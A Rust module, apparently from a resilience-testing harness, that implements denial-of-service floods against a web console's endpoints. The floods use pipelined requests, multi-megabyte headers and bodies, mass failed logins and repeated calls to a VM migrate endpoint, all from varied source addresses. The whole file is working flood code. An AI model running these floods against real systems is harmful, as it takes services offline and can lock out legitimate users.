//! Floods of requests that cost the console more than their sender.

use anyhow::Result;
use tokio::{io::AsyncWriteExt, time::sleep};

use super::{Attacker, LASTS};

const MIB: usize = 1 << 20;

pub(super) async fn pipelined(attacker: Attacker) -> Result<()> {
    let one = format!("GET /plugins/kimchi/vms HTTP/1.1\r\nHost: {}\r\n\r\n", attacker.target.address);
    let many = one.repeat(2_000);
    attacker.at_once(20, 20, |number| send(&attacker, number, many.as_bytes())).await;
    Ok(())
}

pub(super) async fn large_headers(attacker: Attacker) -> Result<()> {
    let head = format!("GET / HTTP/1.1\r\nX-A: {}", "a".repeat(4 * MIB));
    attacker.at_once(50, 50, |number| send(&attacker, number, head.as_bytes())).await;
    Ok(())
}

pub(super) async fn large_bodies(attacker: Attacker) -> Result<()> {
    let body = "x".repeat(32 * MIB);
    let request = attacker.target.request("POST", "/api/hosts", "", &body);
    attacker.at_once(16, 8, |number| exchange(&attacker, number, &request)).await;
    Ok(())
}

pub(super) async fn logins(attacker: Attacker) -> Result<()> {
    attacker
        .at_once(100, 10, async |number| {
            let body = format!("{{\"username\": \"user{number}\", \"password\": \"a wrong password\"}}");
            exchange(&attacker, number, &attacker.target.request("POST", "/login", "", &body)).await;
        })
        .await;
    Ok(())
}

pub(super) async fn preflights(attacker: Attacker) -> Result<()> {
    let request = attacker.target.request("GET", "/plugins/kimchi/vms/web/migrate", "", "");
    attacker.at_once(400, 20, |number| exchange(&attacker, number, &request)).await;
    Ok(())
}

/// Sends bytes and reads nothing for as long as the flood lasts.
async fn send(attacker: &Attacker, number: usize, bytes: &[u8]) {
    let Ok(mut connection) = attacker.target.connect(Some(attacker.address(number))).await else { return };
    let sending = async {
        // The console may close the connection before it has taken all.
        let _ = connection.write_all(bytes).await;
        std::future::pending::<()>().await;
    };
    tokio::select! {
        () = sending => {}
        () = sleep(LASTS) => {}
    }
}

/// Sends a request, and takes the answer whatever it is.
async fn exchange(attacker: &Attacker, number: usize, request: &[u8]) {
    let _ = attacker.target.exchange(Some(attacker.address(number)), request).await;
}
